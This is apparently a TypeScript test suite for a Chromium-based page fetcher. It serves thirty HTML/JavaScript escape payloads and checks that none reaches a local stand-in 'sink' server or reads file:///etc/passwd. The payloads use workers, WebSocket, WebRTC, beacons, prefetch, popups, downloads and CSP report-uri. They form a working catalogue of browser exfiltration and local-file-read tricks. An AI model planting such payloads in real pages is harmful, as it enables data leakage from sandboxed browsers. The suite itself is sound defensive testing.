import { createSocket } from 'node:dgram';
import type { Socket } from 'node:dgram';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { countAttacks } from '../testing/attacks.js';
import { findChromium } from './find-chromium.js';
import { createPageFetcher } from './page-fetcher.js';

/**
 * Thirty ways for a page to reach what it should not: `SINK` is the forbidden server, `WS` the same for sockets, `UDP` a
 * forbidden port for datagrams. Each asks for a path of its own name.
 */
const ESCAPES: Readonly<Record<string, string>> = {
  'service worker': `<script>navigator.serviceWorker.register('/worker.js?SINK').catch(() => {})</script>`,
  'shared worker': `<script>try { new SharedWorker(URL.createObjectURL(new Blob(["fetch('SINK/name')"]))) } catch {}</script>`,
  'dedicated worker': `<script>new Worker(URL.createObjectURL(new Blob(["fetch('SINK/name', { mode: 'no-cors' })"])))</script>`,
  'socket of a worker': `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('WS/name')"])))</script>`,
  'WebSocket': `<script>new WebSocket('WS/name')</script>`,
  'WebSocket of a frame': `<iframe srcdoc="<script>new WebSocket('WS/name')</script>"></iframe>`,
  'WebRTC': `<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>`,
  'WebRTC of a frame': `<iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>"></iframe>`,
  'WebTransport': `<script>new WebTransport('https://127.0.0.1:UDP/name')</script>`,
  'event source': `<script>new EventSource('SINK/name')</script>`,
  'beacon': `<script>navigator.sendBeacon('SINK/name', 'x')</script>`,
  'ping of a link': `<a id=a href="#x" ping="SINK/name">x</a><script>document.getElementById('a').click()</script>`,
  'fetch kept alive': `<script>fetch('SINK/name', { keepalive: true, mode: 'no-cors' })</script>`,
  'popup': `<script>window.open('SINK/name')</script>`,
  'popup without opener': `<a id=a target=_blank rel=noopener href="SINK/name">x</a><script>document.getElementById('a').click()</script>`,
  'form to a new window': `<form id=f method=post target=_blank action="SINK/name"></form><script>document.getElementById('f').submit()</script>`,
  'download': `<a id=a download href="SINK/name">x</a><script>document.getElementById('a').click()</script>`,
  'download by frame': `<iframe src="SINK/name?download"></iframe>`,
  'prefetch': `<link rel=prefetch href="SINK/name">`,
  'prerender': `<script type=speculationrules>{"prerender":[{"source":"list","urls":["SINK/name"]}],"prefetch":[{"source":"list","urls":["SINK/name"]}]}</script>`,
  'preconnect': `<link rel=preconnect href="SINK"><link rel=dns-prefetch href="SINK">`,
  'manifest': `<link rel=manifest href="SINK/name">`,
  'icon': `<link rel=icon href="SINK/name">`,
  'file: frame': `<iframe src="file:///etc/passwd"></iframe><iframe src="file://127.0.0.1/etc/passwd"></iframe>`,
  'file: fetch': `<script>fetch('file:///etc/passwd').then((r) => r.text()).then((t) => { document.body.append(t); fetch('SINK/name') })</script>`,
  'refresh': `<meta http-equiv=refresh content="0;url=SINK/name">`,
  'location': `<script>location = 'SINK/name'</script>`,
  'chrome: frame': `<iframe src="chrome://version"></iframe><iframe src="view-source:SINK/name"></iframe>`,
  'object and embed': `<object data="SINK/name"></object><embed src="SINK/name">`,
  'report of the policy': `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri SINK/name"><img src="/x">`,
}; // prettier-ignore

interface Sink {
  server: Server;
  udp: Socket;
  host: string;
  /** What arrived: paths, `upgrade …`, `datagram`. */
  hits: string[];
  connections: number;
}

async function startSink(): Promise<Sink> {
  const sink: Sink = {
    server: createServer(),
    udp: createSocket('udp4'),
    host: '',
    hits: [],
    connections: 0,
  };
  sink.server.on('connection', () => (sink.connections += 1));
  sink.server.on('request', (request, response) => {
    sink.hits.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('secret of the sink');
  });
  sink.server.on('upgrade', (request, socket) => {
    sink.hits.push(`upgrade ${request.url ?? ''}`);
    socket.destroy();
  });
  sink.udp.on('message', () => sink.hits.push('datagram'));
  await new Promise<void>((done) => sink.server.listen(0, '127.0.0.1', done));
  await new Promise<void>((done) => sink.udp.bind(0, '127.0.0.1', done));
  sink.host = `127.0.0.1:${(sink.server.address() as AddressInfo).port}`;
  return sink;
}

let sink: Sink;
let site: Server;
let siteHost: string;

beforeAll(async () => {
  sink = await startSink();
  site = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://site');
    if (url.pathname === '/worker.js') {
      response
        .setHeader('content-type', 'text/javascript')
        .end(`fetch('http://${sink.host}/service-worker')`);
      return;
    }
    const name = decodeURIComponent(url.pathname.slice(1));
    const escape = (ESCAPES[name] ?? '')
      .replaceAll('WS', `ws://${sink.host}`)
      .replaceAll('SINK', `http://${sink.host}`)
      .replaceAll('UDP', String(sink.udp.address().port))
      .replaceAll('/name', `/${encodeURIComponent(name)}`);
    response
      .setHeader('content-type', 'text/html')
      .end(
        `<!doctype html><title>Offer</title><body><h1>Night baker</h1>${escape}<script>document.title = 'ran'</script>`,
      );
  });
  await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
  siteHost = `127.0.0.1:${(site.address() as AddressInfo).port}`;
});
beforeEach(() => {
  sink.hits = [];
  sink.connections = 0;
});
afterAll(async () => {
  for (const server of [sink.server, site]) {
    server.closeAllConnections();
    await new Promise((done) => server.close(done));
  }
  await new Promise<void>((done) => sink.udp.close(done));
});

/** Opens the page of each escape; what the pages became. */
async function tryAll(allowPrivate: string[]): Promise<Record<string, string>> {
  const fetcher = createPageFetcher({ findChromium, allowPrivate, maxParallel: 3, timeoutMs: 30_000 });
  try {
    const pages = await Promise.all(
      Object.keys(ESCAPES).map(async (name) => {
        const page = await fetcher
          .fetch(`http://${siteHost}/${encodeURIComponent(name)}`, { signal: AbortSignal.timeout(110_000) })
          .catch((error: unknown) => ({ text: (error as Error).message, frames: [] }));
        return [name, JSON.stringify([page.text, page.frames])] as const;
      }),
    );
    return Object.fromEntries(pages);
  } finally {
    await fetcher.close();
  }
}

describe('a page in Chromium', () => {
  it('has thirty ways out, and none of them leads anywhere', async () => {
    expect(Object.keys(ESCAPES)).toHaveLength(30);
    const pages = await tryAll([siteHost]);
    const told = Object.entries(pages).filter(([, text]) => /secret of the sink|root:[^"]*:0:0:/.test(text));
    countAttacks('Chromium: escapes', 30, told.length + sink.hits.length + sink.connections);
    expect(told).toEqual([]);
    expect(sink.hits).toEqual([]);
    // Not even a connection: a preconnect would tell that somebody was there.
    expect(sink.connections).toBe(0);
    // The pages did run their scripts: what did not happen was refused, not skipped.
    expect(Object.values(pages).filter((text) => text.includes('<title>ran</title>')).length).toBeGreaterThan(
      24,
    );
  }, 300_000);

  it('gets out by many of them where the sink is allowed (positive control)', async () => {
    await tryAll([siteHost, sink.host]);
    const used = new Set(sink.hits.map((hit) => hit.replace(/\?.*/, '')));
    expect([...used].sort()).toEqual(
      expect.arrayContaining(['/dedicated%20worker', '/fetch%20kept%20alive']),
    );
    expect(used.size).toBeGreaterThanOrEqual(6);
  }, 300_000);
});
